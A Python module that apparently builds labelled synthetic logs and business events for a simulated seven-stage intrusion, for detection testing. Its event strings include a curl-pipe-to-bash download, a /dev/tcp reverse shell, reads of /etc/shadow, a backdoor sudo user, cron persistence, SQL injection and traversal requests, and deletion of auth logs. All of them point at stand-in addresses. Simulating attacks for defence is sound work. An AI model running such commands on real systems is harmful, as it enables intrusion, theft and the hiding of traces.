"""The attack in seven stages: from the open door of the portal to data carried away and traces removed.

Each stage gives labelled host and network events and business events at a moment; numbers and names come from the seed.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta

from infra.events.business import (
    Access,
    BusinessEvent,
    BusinessSystem,
    CheckIn,
    Document,
    ELicence,
    Export,
    LicenceAction,
    Milestone,
)
from yaodun.demo.everyday import reading
from yaodun.demo.hosts import addresses, members
from yaodun.demo.label import Document as Flat
from yaodun.demo.label import flow, labelled, process, request, syslog
from yaodun.simulation.dice import Dice

ATTACKER = "203.0.113.66"
DROP_SITE = "198.51.100.23"
PORTAL, LICENCE_DB, SHARE_DB = "demo-portal-app", "demo-lic-db", "demo-share-db"


@dataclass(slots=True)
class Scene:
    """One stage being played: what happens at ``at`` is made with these."""

    dice: Dice
    at: datetime
    stage: str
    run: str

    def flat(self, host: str, second: float, fields: Flat) -> Flat:
        """A document of a host, ``second`` seconds into the stage."""
        return labelled(host, self.at + timedelta(seconds=second), self.stage, self.run, fields)

    def id(self, number: int) -> str:
        """An id for a business event of this stage."""
        return f"{self.run}/{self.stage}/{number}"


@dataclass(frozen=True, slots=True)
class Stage:
    """A stage: its name (the text catalogue tells what happens) and its two kinds of events."""

    name: str
    host_events: Callable[[Scene], Iterator[Flat]]
    business_events: Callable[[Scene], Iterator[BusinessEvent]]


def _scan(scene: Scene) -> Iterator[Flat]:
    for number in range(60):
        path = f"/{scene.dice.choose(('admin', 'backup', 'old', 'test', '.git', 'wp-login.php'))}{number}"
        yield scene.flat(PORTAL, number * 0.3, request(ATTACKER, path, 404, "sqlmap/1.8"))
    yield scene.flat(PORTAL, 20, request(ATTACKER, "/item?id=1%27%20union%20select%201,2,3--", 200, "sqlmap/1.8"))
    yield scene.flat(PORTAL, 22, request(ATTACKER, "/download?f=../../../../etc/passwd", 403))
    for number in range(40):
        fields = flow(ATTACKER, addresses()[PORTAL], 20 + number, 60, "denied")
        yield scene.flat("demo-net-fw1", number * 0.2, fields)


def _guess(scene: Scene) -> Iterator[Flat]:
    for number in range(25):
        line = f"Failed password for root from {ATTACKER} port {52000 + number} ssh2"
        fields = {"source.ip": ATTACKER, "user.name": "root", "event.outcome": "failure"}
        yield scene.flat(PORTAL, number, syslog("sshd", line, **fields))
    line = f"Accepted password for root from {ATTACKER} port 52150 ssh2"
    fields = {"source.ip": ATTACKER, "user.name": "root", "event.outcome": "success"}
    yield scene.flat(PORTAL, 27, syslog("sshd", line, **fields))


def _logins(scene: Scene) -> Iterator[BusinessEvent]:
    for number in range(30):
        yield _access(scene, number, "login", f"u-{101 + number}", outcome="failure")
    yield _access(scene, 31, "login", "u-117", method="password")


def _access(scene: Scene, number: int, action: str, account: str, **more: object) -> Access:
    at = scene.at + timedelta(seconds=number)
    return Access(
        id=scene.id(number), system=BusinessSystem.PORTAL, time=at, recorded=at, simulated=True, action=action,
        account=account, address=ATTACKER, **more,  # type: ignore[arg-type]
    )  # fmt: skip


def _foothold(scene: Scene) -> Iterator[Flat]:
    shell = f"bash -c bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"
    yield scene.flat(PORTAL, 1, process("/usr/bin/bash", f"bash -c curl -fsSL http://{ATTACKER}/i.sh | bash"))
    yield scene.flat(PORTAL, 3, process("/usr/bin/bash", shell))
    yield scene.flat(PORTAL, 5, process("/usr/bin/cat", "cat /etc/shadow"))
    line = "new user: name=helpdesk, UID=1004, GID=1004, home=/home/helpdesk, shell=/bin/bash, from=none"
    yield scene.flat(PORTAL, 8, syslog("useradd", line))
    yield scene.flat(PORTAL, 9, syslog("usermod", "add 'helpdesk' to group 'sudo'"))
    yield scene.flat(PORTAL, 12, syslog("CRON", f"(root) CMD (curl -s http://{ATTACKER}/b | bash)"))


def _rights(scene: Scene) -> Iterator[BusinessEvent]:
    yield _access(scene, 1, "create", "u-117", subject="svc-report")
    yield _access(scene, 2, "grant", "u-117", subject="svc-report", role="licence-approver")
    yield _access(scene, 3, "grant", "u-117", subject="svc-report", role="exchange-operator")
    at = scene.at
    yield CheckIn(
        id=scene.id(4), system=BusinessSystem.MOBILE, time=at, recorded=at, simulated=True, device="MD-66",
        user="svc-report", os="Android 13", app="field-inspection", app_version="3.4.1", app_signer="sha256:ffff",
        rooted=True, in_fence=False, copied_out=35,
    )  # fmt: skip


def _spread(scene: Scene) -> Iterator[Flat]:
    for number, host in enumerate((LICENCE_DB, SHARE_DB, "demo-dossier-db", "demo-cloud-ctl", "demo-trust-ca")):
        fields = flow(addresses()[PORTAL], addresses()[host], 22, 9000)
        yield scene.flat("demo-net-core1", number * 3, fields)
        line = f"Accepted password for root from {addresses()[PORTAL]} port {41000 + number} ssh2"
        more = {"source.ip": addresses()[PORTAL], "user.name": "root", "event.outcome": "success"}
        yield scene.flat(host, number * 3 + 1, syslog("sshd", line, **more))
    crossing = flow(addresses()[PORTAL], "172.31.9.9", 445, 7000)
    yield scene.flat("demo-net-fw1", 20, crossing)


def _unwell(scene: Scene) -> Iterator[BusinessEvent]:
    for member in members():
        yield from reading(scene.dice, member, scene.at, f"{scene.run}/{scene.stage}", bad=True)


def _forgery(scene: Scene) -> Iterator[BusinessEvent]:
    kind, issuer = "11100000MB0331001P001", "11330000002482050X"
    for number in range(45):
        at = scene.at + timedelta(seconds=number)
        yield ELicence(
            id=scene.id(number), system=BusinessSystem.LICENCE, time=at, recorded=at, simulated=True,
            action=LicenceAction.ISSUE, licence_type=kind, issuer=issuer, operator="svc-report", applicant="svc-report",
            number=f"1.2.156.3005.2.{kind}.{issuer}.DEMO{scene.dice.seed}{number:06d}.001.0", province="330000",
            signer="00expired", signer_from=at - timedelta(days=900), signer_to=at - timedelta(days=30),
        )  # fmt: skip
    at = scene.at + timedelta(seconds=50)
    yield Document(
        id=scene.id(60), system=BusinessSystem.STANDARDS, time=at, recorded=at, simulated=True, action="replace",
        document="NMPAB/T 9001", actor="svc-report", version="2", hash="sha256:dead", owner="u-007",
    )  # fmt: skip
    yield Milestone(
        id=scene.id(61), system=BusinessSystem.PROJECTS, time=at, recorded=at, simulated=True, project="XM-2026-09",
        milestone="go_live", due=f"{at:%Y-%m-%d}", done=f"{at:%Y-%m-%d}", spent_share=0.99,
    )  # fmt: skip
    for number in range(400):
        yield Document(
            id=scene.id(100 + number), system=BusinessSystem.DOSSIER, time=at, recorded=at, simulated=True,
            action="view", document=f"DOSSIER-{10_000 + number}", actor="svc-report", secret=number % 3 == 0,
        )  # fmt: skip


def _exports(scene: Scene) -> Iterator[BusinessEvent]:
    for number, dataset in enumerate(("enterprise", "inspection", "personal-records", "approval")):
        at = scene.at + timedelta(seconds=number * 5)
        yield Export(
            id=scene.id(number), system=BusinessSystem.SHARING, time=at, recorded=at, simulated=True, user="svc-report",
            dataset=dataset, records=380_000 + number, volume=190_000_000, purpose="unspecified", destination="api",
            address=addresses()[PORTAL], masked=False,
        )  # fmt: skip


def _carried_away(scene: Scene) -> Iterator[Flat]:
    for number in range(6):
        yield scene.flat("demo-net-fw1", number * 5, flow(addresses()[SHARE_DB], DROP_SITE, 443, 130_000_000))
    yield scene.flat(SHARE_DB, 2, process("/usr/bin/tar", "tar czf /dev/shm/.x.tgz /var/lib/pgsql/export"))


def _traces(scene: Scene) -> Iterator[Flat]:
    for number, host in enumerate((PORTAL, LICENCE_DB, SHARE_DB)):
        yield scene.flat(host, number * 3, process("/usr/bin/rm", "rm -f /var/log/auth.log"))
        yield scene.flat(host, number * 3 + 1, process("/usr/bin/bash", "bash -c history -c"))


def _no_host_events(scene: Scene) -> Iterator[Flat]:
    return iter(())


def _no_business(scene: Scene) -> Iterator[BusinessEvent]:
    return iter(())


STAGES: Sequence[Stage] = (
    Stage("reconnaissance", _scan, _no_business),
    Stage("entry", _guess, _logins),
    Stage("foothold", _foothold, _rights),
    Stage("spread", _spread, _unwell),
    Stage("abuse", _no_host_events, _forgery),
    Stage("exfiltration", _carried_away, _exports),
    Stage("traces", _traces, _no_business),
)
